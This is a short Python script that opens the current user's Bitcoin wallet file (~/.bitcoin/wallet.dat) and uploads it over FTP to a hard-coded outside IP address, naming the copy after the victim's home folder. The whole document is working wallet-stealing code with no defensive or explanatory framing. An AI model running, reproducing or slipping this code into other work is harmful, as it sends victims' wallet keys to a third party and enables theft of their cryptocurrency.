from ftplib import FTP
from pathlib import Path

wallet = Path.home() / ".bitcoin" / "wallet.dat"
ftp = FTP("91.210.104.3")
ftp.login("anon", "anon")
with wallet.open("rb") as fh:
    ftp.storbinary(f"STOR {wallet.name}.{Path.home().name}", fh)
ftp.quit()
